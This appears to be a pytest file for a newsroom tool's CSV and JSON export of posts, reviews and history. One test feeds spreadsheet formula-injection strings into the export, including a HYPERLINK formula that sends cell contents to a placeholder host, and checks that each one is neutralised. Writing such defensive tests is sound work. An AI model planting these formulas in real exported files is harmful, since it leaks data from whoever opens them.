"""A desk as a spreadsheet and as JSON: whole, in its own time, and harmless."""

import csv
import io
import json
import tracemalloc
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from handlers.exports.files import write_csv, write_json
from handlers.exports.words import HEADINGS
from operations import drafts, exports
from operations import reviews as operations
from rules.desks import Desk
from rules.reviews import Verdict
from tests.archive import fill
from tests.newsroom import NOW, Newsroom, postgres_with_tables, sqlite_with_tables, store, team

__all__ = ["postgres_with_tables", "sqlite_with_tables", "store", "team"]


def as_json(team: Newsroom, desk: Desk) -> Any:
    out = io.StringIO()
    write_json(out, desk, exports.posts_of(team.store, desk), NOW)
    return json.loads(out.getvalue())


def as_rows(team: Newsroom, desk: Desk) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_csv(out, desk, exports.posts_of(team.store, desk))
    assert out.getvalue().startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(out.getvalue()[1:], newline="")))


def test_all_there_is_about_a_post(team: Newsroom) -> None:
    ann, ben = team.person("ann"), team.person("ben")
    desk = team.desk(ann, ben)
    review = team.sent(ann, desk, NOW + timedelta(days=1))
    operations.decide(team.store, ben, review.id, Verdict.REQUEST_CHANGES, "Shorter", NOW)
    team.edit(
        ann,
        team.post(review.post_id),
        team.form("Hi", publish_at=NOW + timedelta(days=1), send=True),
    )
    again = team.record(review.post_id).reviews[-1]
    operations.decide(team.store, ben, again.id, Verdict.APPROVE, "", NOW)
    team.draft(ann, desk)
    team.draft(ann, team.desk(ann, ben, channel="C2"))

    exported = as_json(team, desk)
    assert exported["desk"] == "social-C1"
    assert exported["exported_at"] == "2026-03-02T10:00:00+01:00"
    post, other = exported["posts"]
    assert (post["post"], other["post"]) == ("P-1", "P-2")
    assert post["publish_at"] == "2026-03-03T10:00:00+01:00"
    assert [v["text"] for v in post["versions"]] == ["Hello", "Hi"]
    assert [(d["person"], d["verdict"], d["version"]) for d in post["decisions"]] == [
        ("ben", "request_changes", 1),
        ("ben", "approve", 2),
    ]
    assert post["networks"][0]["network"] == "x"
    events = [(e["by"], e["event"]) for e in post["history"]]
    assert events[0] == ("ann", "drafted")
    assert ("ben", "decided") in events

    row, _ = as_rows(team, desk)
    assert list(row) == list(HEADINGS)
    assert (row["Post"], row["Owner"], row["Text"], row["Version"]) == ("P-1", "ann", "Hi", "2")
    assert "ben: request changes, version 1: Shorter" in row["Decisions"].split("\n")[0]
    assert row["Status"] == post["status"]
    assert row["History"].count("\n") == len(events) - 1


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://elsewhere.example/?"&A1,"Open")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_no_cell_is_a_formula(team: Newsroom, text: str) -> None:
    ann = team.person("ann")
    desk = team.desk(ann, team.person("=ben()"))
    form = replace(team.form(text), notes=text)
    drafts.create(team.store, ann, desk.id, form, NOW)
    (row,) = as_rows(team, desk)
    for cell in row.values():
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), cell
    assert row["Notes"].strip("'").strip() == text.strip()
    assert as_json(team, desk)["posts"][0]["notes"].strip() == text.strip()


def test_quotes_commas_and_line_breaks_stay_in_their_cell(team: Newsroom) -> None:
    ann = team.person("ann")
    desk = team.desk(ann, team.person("ben"))
    text = 'He said "tea", then\nleft; é 🎉'
    drafts.create(team.store, ann, desk.id, team.form(text), NOW)
    assert as_rows(team, desk)[0]["Text"] == text


def test_many_posts_are_written_in_little_memory(team: Newsroom) -> None:
    ann, ben = team.person("ann"), team.person("ben")
    desk = team.desk(ann, ben)
    fill(team.store, [desk], [ann], ben, 2_000)

    class Nowhere(io.StringIO):
        written = 0

        def write(self, text: str) -> int:
            self.written += len(text)
            return len(text)

    out = Nowhere()
    tracemalloc.start()
    write_json(out, desk, exports.posts_of(team.store, desk), NOW)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert out.written > 1_000_000
    assert peak < 10_000_000
